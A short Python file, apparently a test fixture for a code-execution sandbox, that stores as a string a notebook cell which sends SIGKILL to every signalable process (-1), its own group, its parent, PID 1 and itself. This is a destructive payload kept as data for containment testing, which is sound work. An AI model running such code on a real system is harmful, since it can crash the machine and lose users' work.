"""Kills itself, its group, and everything it may kill."""
CELL = r'''
import os, signal
for target in (-1, 0, os.getppid(), 1, os.getpid()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
'''
